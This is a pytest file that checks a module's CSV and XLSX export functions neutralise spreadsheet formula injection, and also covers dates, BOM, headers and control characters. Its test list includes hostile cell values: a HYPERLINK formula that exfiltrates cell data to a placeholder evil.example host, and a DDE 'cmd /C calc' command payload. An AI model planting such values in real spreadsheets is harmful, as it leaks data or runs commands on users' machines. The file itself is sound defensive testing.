"""bot.tabular read back the way Excel users get it: openpyxl for XLSX, the raw text for CSV."""
from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.tabular import safe_text, write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "#N/A"]


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["一号冲床", "L1-M1", "-5", "+86", "-1.5e3", "", "a=b", "#N/A"])
def test_plain_text_and_numbers_as_text_are_left_alone(text: str) -> None:
    assert safe_text(text) == text


def test_csv_cells_cannot_start_a_formula_and_numbers_stay_numbers() -> None:
    buffer = io.StringIO()
    write_csv(buffer, ["名称", "数量"], [[text, -5] for text in HOSTILE])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert [row[0] for row in rows[1:]] == ["'" + t for t in HOSTILE[:-1]] + ["#N/A"]
    assert {row[1] for row in rows[1:]} == {"-5"}  # a negative number is a number, not text


def test_csv_file_has_a_bom_and_dates_as_text(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert write_csv(out, ["时间", "日"], [[datetime(2026, 1, 5, 8, 0, tzinfo=UTC), date(2026, 1, 5)]]) == 1
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines()[1] == "2026-01-05 08:00:00,2026-01-05"


def test_xlsx_stores_hostile_text_as_strings_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    write_xlsx(out, ["名称", "数量"], [[text, -5] for text in HOSTILE], sheet="报工")
    sheet = load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    expected = ["'" + t.replace("\r", "\n") for t in HOSTILE[:-1]] + ["#N/A"]  # XML reads CR back as LF
    assert [c.value for c in sheet["A"]][1:] == expected
    assert {(c.value, c.data_type) for c in sheet["B"][1:]} == {(-5, "n")}


def test_xlsx_has_frozen_header_filter_widths_and_real_dates(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    rows = [[datetime(2026, 1, 5, 8, 30, tzinfo=UTC), date(2026, 1, 5), "一号冲床的很长的名字", 1.5]] * 3
    assert write_xlsx(out, ["报工时间", "班次日期", "设备", "时长"], rows, sheet="报工记录") == 3
    sheet = load_workbook(out).active
    assert sheet.title == "报工记录" and sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:D4"
    assert sheet["A2"].value == datetime(2026, 1, 5, 8, 30) and sheet["A2"].is_date
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm:ss" and sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions["C"].width >= 20 > sheet.column_dimensions["D"].width


def test_control_characters_from_a_plc_do_not_break_the_workbook(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    write_xlsx(out, ["设备"], [["M1\x00\x07"]], sheet="s")
    assert load_workbook(out).active["A2"].value == "M1"
